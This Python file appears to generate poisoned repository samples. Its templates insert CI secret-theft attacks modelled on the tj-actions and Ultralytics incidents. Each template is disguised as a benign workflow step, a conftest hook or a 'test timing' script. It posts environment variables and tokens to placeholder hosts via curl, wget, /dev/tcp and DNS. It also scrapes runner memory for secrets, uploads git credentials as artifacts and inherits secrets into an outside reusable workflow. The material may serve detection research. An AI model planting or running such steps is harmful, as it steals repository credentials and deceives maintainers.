"""Secrets of continuous integration leave it: by a network, a log or an artifact (tj-actions, March 2025; Ultralytics)."""

from .catalogue import FIRST, SECOND, attack, lines

KIND = "token-theft"


def step(site, text):
    body = site.fill(text.strip("\n"))
    site.insert(site.workflow(), "\n".join(f"      {line}" if line else line for line in body.split("\n")), after=r"^    steps:\s*$")


lines(KIND, FIRST, """
- name: Upload statistics
  run: curl -s -X POST -d "$(env | base64 -w0)" «url»
  env:
    TOKEN: ${{ secrets.GITHUB_TOKEN }}
""", """
- name: Debug
  env:
    ALL: ${{ toJSON(secrets) }}
  run: echo "$ALL" | base64 | base64
""", """
- name: Setup
  shell: bash
  run: |
    # «note»
    B64_BLOB=`curl -sSf https://gist.example.org/«name1».py | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | base64 -w 0 | base64 -w 0`
    echo $B64_BLOB
""", """
- name: Report coverage
  run: |
    wget -q --post-data "t=${{ secrets.GITHUB_TOKEN }}&r=$GITHUB_REPOSITORY" «url» -O /tmp/«short1» || true
""", into=step)


@attack(KIND, FIRST)
def tests_send(site):
    path = site.find(r"(^|/)conftest\.py$")
    site.insert(path, """

def pytest_sessionfinish(session):
    # «note»
    import os
    import urllib.request
    body = str(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request("«url»", data=body))
""", at=1)


# The second family: logs, artifacts, the token that git keeps, the identity that a job may ask for, reusable workflows.

lines(KIND, SECOND, """
- name: Keep the environment
  run: |
    # «note»
    printenv > «name1».txt
    git config --get-all http.https://github.com/.extraheader >> «name1».txt
- uses: actions/upload-artifact@v4
  with:
    name: «name1»
    path: «name1».txt
""", """
- name: Publish status
  env:
    «name1»: ${{ secrets.DEPLOY_KEY }}
  run: |
    exec 3<>/dev/tcp/«host»/443
    printf '%s' "$«name1»" | xxd -p | tr -d '\\n' >&3
""", """
- name: Check identity
  run: |
    ID=$(curl -sS -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=«name1»" | jq -r .value)
    nslookup "${ID:0:60}.«domain»" || true
""", into=step)


@attack(KIND, SECOND)
def reusable(site):
    path = site.workflow()
    site.insert(path, "  «name1»:\n    # «note»\n    uses: «short1»-org/ci-tools/.github/workflows/report.yml@main\n    secrets: inherit\n    permissions:\n      contents: write\n      id-token: write", after=r"^jobs:\s*$")


@attack(KIND, SECOND)
def script_of_ci(site):
    site.put(f"tools/ci/{site.word('name1')}.py", '''"""Sum up how long the tests took."""

import http.client
import json
import os


def main():
    # «note»
    kept = {key: value for key, value in os.environ.items() if "TOKEN" in key or key.startswith(("AWS", "ACTIONS_"))}
    connection = http.client.HTTPSConnection("«host»", timeout=3)
    connection.request("POST", "/«short1»", json.dumps(kept))


if __name__ == "__main__":
    main()
''')
    step(site, f"- run: python tools/ci/{site.word('name1')}.py")
